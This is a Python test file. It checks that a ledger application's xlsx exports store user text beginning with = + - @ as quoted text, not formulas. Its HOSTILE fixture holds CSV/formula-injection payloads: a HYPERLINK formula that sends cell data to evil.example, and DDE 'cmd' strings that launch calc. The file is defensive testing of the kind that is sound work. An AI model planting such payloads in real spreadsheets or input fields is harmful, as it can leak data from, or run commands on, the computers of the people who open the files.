"""Formula injection: text a person typed that begins with = + - @ is written as text in every
spreadsheet export (``/ledger.xlsx`` and ``report --format xlsx``), checked by opening the files
with openpyxl and reading the sheet XML itself."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from workflow import db
from workflow.lifecycle import Action
from workflow.services.measures import ActionRequest, perform

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "area": "+cmd|' /C calc'!A0",
    "problem": "-2+3+cmd|' /C calc'!A0",
    "progress": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def hostile_ledger(ledger: Any, cast: Any, sessions: Any, now: Any) -> int:
    [_, measure] = ledger.measures(cast.campaign, [{
        "leader": cast.leader, "owner": cast.owner, "unit": "饮食服务中心", "seq": "2",
        "title": HOSTILE["title"], "area": HOSTILE["area"], "problem": HOSTILE["problem"]}])
    for hours, (action, extra) in enumerate([(Action.START, {}),
                                             (Action.SUBMIT, {"comment": HOSTILE["progress"]})]):
        with db.transaction(sessions) as session:
            perform(session, ActionRequest(measure.id, action, cast.owner.email, **extra),
                    now=now + timedelta(hours=hours + 1))
    return measure.id


def assert_no_formulas(content: bytes, expected: list[str]) -> None:
    book = load_workbook(io.BytesIO(content))
    seen: dict[str, Any] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen[cell.value] = cell
    for text in expected:
        # the text is kept exactly, as a string, and marked as text for Excel and WPS
        assert text in seen, (text, list(seen)[:20])
        assert seen[text].data_type == "s"
        assert seen[text].quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_the_ledger_export_writes_formulas_as_text(browser, ledger, cast, sessions, now):
    hostile_ledger(ledger, cast, sessions, now)
    response = browser("admin").get("/ledger.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.content, [HOSTILE["title"], HOSTILE["area"], HOSTILE["problem"]])
    # ordinary text stays ordinary
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert cast.measure.title in titles


def test_the_report_export_writes_formulas_as_text(rectiflow, ledger, cast, sessions, now,
                                                   tmp_path: Path):
    hostile_ledger(ledger, cast, sessions, now)
    out = tmp_path / "report.xlsx"
    result = rectiflow("report", str(cast.campaign.id), "--format", "xlsx", "--out", str(out),
                       "--now", (now + timedelta(days=1)).isoformat())
    assert result.code == 0, result.err
    assert_no_formulas(out.read_bytes(), list(HOSTILE.values()))
